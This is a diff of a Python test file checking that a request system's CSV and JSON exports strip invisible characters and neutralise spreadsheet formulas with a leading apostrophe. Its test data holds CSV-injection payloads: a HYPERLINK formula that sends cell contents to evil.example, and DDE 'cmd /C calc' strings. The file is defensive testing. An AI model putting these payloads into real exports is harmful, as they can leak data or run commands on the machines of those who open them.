@@ -7,9 +7,9 @@ full-screen kiosk and in line mode, and rows that already hold them
 (written into the database by something else) are shown to staff with
 U+FFFD in their place, left out of CSV and escaped in JSON.
 
-A cell that a spreadsheet would read as a formula (=, +, -, @, also after
-blanks or a tab, and their full-width forms) gets a leading apostrophe in
-both CSV flavours; a phone number stays a phone number."""
+A CSV cell that a spreadsheet would read as a formula (=, +, -, @, also after
+blanks or a tab, and their full-width forms) gets an apostrophe before that
+character (test_export_csv.py has the cells that begin inside an answer)."""
 import csv
 import io
 import json
@@ -99,19 +99,13 @@ def test_staff_terminal_shows_stored_invisible_characters_as_placeholders(kiosk,
 
 def test_exports_leave_out_or_escape_stored_invisible_characters(tmp_path, forms):
     db = hostile_db(tmp_path)
-    for args in (['--format', 'csv'], ['--format', 'csv', '--excel']):
-        r = su.zk(['export'] + args, db=db)
-        assert r.returncode == 0, su.err(r)
-        data = r.stdout
-        if '--excel' in args:
-            assert data.startswith(b'\xef\xbb\xbf')  # the byte-order mark Excel needs
-            data = data[3:]
-        no_invisible(data, 'export ' + ' '.join(args))
-        text = data.decode('utf-8')
-        table = list(csv.reader(io.StringIO(text, newline=''), delimiter=';' if '--excel' in args else ','))
-        row = dict(zip(table[0], table[1]))
-        assert row['name'] == 'JanSNAJ', row
-        assert row['situation'] == 'Zorg voor moeder', row
+    r = su.zk(['export', '--format', 'csv'], db=db)
+    assert r.returncode == 0, su.err(r)
+    no_invisible(r.stdout, 'the CSV export')
+    table = list(csv.reader(io.StringIO(r.stdout.decode('utf-8'), newline='')))
+    row = dict(zip(table[0], table[1]))
+    assert row['name'] == 'JanSNAJ', row
+    assert row['situation'] == 'Zorg voor moeder', row
 
     r = su.zk(['export', '--format', 'json'], db=db)
     assert r.returncode == 0, su.err(r)
@@ -130,24 +124,25 @@ def test_exports_leave_out_or_escape_stored_invisible_characters(tmp_path, forms
     assert line.split('\t')[4] == 'x\ufffdy\ufffd[2J\ufffdz', line
 
 
-# (stored value, what the CSV cell holds) for cells that must be kept text.
+# (stored value, what the CSV cell holds) for cells that must be kept text:
+# the apostrophe goes right before the formula character.
 FORMULAS = [
-    ('=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")', None),
-    ('+cmd|\' /C calc\'!A0', None),
-    ('-2+3+cmd|\' /C calc\'!A0', None),
-    ('@SUM(1+1)*cmd|\' /C calc\'!A0', None),
-    ('   =1+1', None),
-    ('\t=1+1', None),
-    ('\r=1+1', None),
-    ('\ufeff=1+1', '=1+1'),            # invisible first: left out, then guarded
-    ('\u200b\u200b@SUM(A1)', '@SUM(A1)'),
-    ('\uff1dHYPERLINK("x")', None),    # full-width =
-    ('\uff0b1+1', None),
-    ('\u3000=1', None),                # after an ideographic space
+    ('=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")', '\'=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'),
+    ('+cmd|\' /C calc\'!A0', '\'+cmd|\' /C calc\'!A0'),
+    ('-2+3+cmd|\' /C calc\'!A0', '\'-2+3+cmd|\' /C calc\'!A0'),
+    ('@SUM(1+1)*cmd|\' /C calc\'!A0', '\'@SUM(1+1)*cmd|\' /C calc\'!A0'),
+    ('   =1+1', '   \'=1+1'),
+    ('\t=1+1', '\t\'=1+1'),
+    ('\r=1+1', '\r\'=1+1'),
+    ('\ufeff=1+1', '\'=1+1'),            # invisible first: left out, then guarded
+    ('\u200b\u200b@SUM(A1)', '\'@SUM(A1)'),
+    ('\uff1dHYPERLINK("x")', '\'\uff1dHYPERLINK("x")'),    # full-width =
+    ('\uff0b1+1', '\'\uff0b1+1'),
+    ('\u3000=1', '\u3000\'=1'),                # after an ideographic space
 ]
 
 
-def test_csv_formulas_are_kept_text_in_both_flavours(tmp_path, forms):
+def test_csv_formulas_are_kept_text(tmp_path, forms):
     db = tmp_path / 'zk.db'
     su.create_db(db)
     for i, (value, _) in enumerate(FORMULAS):
@@ -158,23 +153,21 @@ def test_csv_formulas_are_kept_text_in_both_flavours(tmp_path, forms):
                       su.answers('-', phone='+31612345678', situation='- geen -'))
     su.insert_request(db, 'MZ-2026-%04d' % (n + 2), '2026-04-01T10:01:00Z',
                       su.answers('+ 31', phone='0791234567', situation='Tel. +31 6 12345678'))
-    for excel in (False, True):
-        r = su.zk(['export', '--format', 'csv'] + (['--excel'] if excel else []), db=db)
-        assert r.returncode == 0, su.err(r)
-        text = r.stdout.decode('utf-8').lstrip('\ufeff')
-        table = list(csv.reader(io.StringIO(text, newline=''), delimiter=';' if excel else ','))
-        body = {row[0]: dict(zip(table[0], row)) for row in table[1:]}
-        flavour = 'Excel' if excel else 'plain'
-        for i, (value, clean) in enumerate(FORMULAS):
-            cell = body['MZ-2026-%04d' % (i + 1)]['situation']
-            assert cell == "'" + (clean or value), '%s CSV: %r came out as %r' % (flavour, value, cell)
-        phone_row = body['MZ-2026-%04d' % (n + 1)]
-        # A phone number reads as one: as stored in plain CSV; for Excel
-        # with the apostrophe that keeps its + (Excel would make it a number).
-        assert phone_row['phone'] == ("'+31612345678" if excel else '+31612345678'), phone_row
-        assert phone_row['name'] == '-', 'a lone - is no formula: %r' % phone_row
-        assert phone_row['situation'] == "'- geen -", phone_row
-        other = body['MZ-2026-%04d' % (n + 2)]
-        assert other['name'] == ("'+ 31" if excel else '+ 31'), other
-        assert other['phone'] == '0791234567', other
-        assert other['situation'] == 'Tel. +31 6 12345678', other
+    r = su.zk(['export', '--format', 'csv'], db=db)
+    assert r.returncode == 0, su.err(r)
+    table = list(csv.reader(io.StringIO(r.stdout.decode('utf-8'), newline='')))
+    body = {row[0]: dict(zip(table[0], row)) for row in table[1:]}
+    for i, (value, want) in enumerate(FORMULAS):
+        cell = body['MZ-2026-%04d' % (i + 1)]['situation']
+        assert cell == want, '%r came out as %r' % (value, cell)
+    # Every cell that starts with a sign is guarded, a phone number and a
+    # lone - too: the rule has no exceptions to get wrong, and a
+    # spreadsheet would make +31612345678 the number 31612345678.
+    phone_row = body['MZ-2026-%04d' % (n + 1)]
+    assert phone_row['phone'] == "'+31612345678", phone_row
+    assert phone_row['name'] == "'-", phone_row
+    assert phone_row['situation'] == "'- geen -", phone_row
+    other = body['MZ-2026-%04d' % (n + 2)]
+    assert other['name'] == "'+ 31", other
+    assert other['phone'] == '0791234567', other
+    assert other['situation'] == 'Tel. +31 6 12345678', other
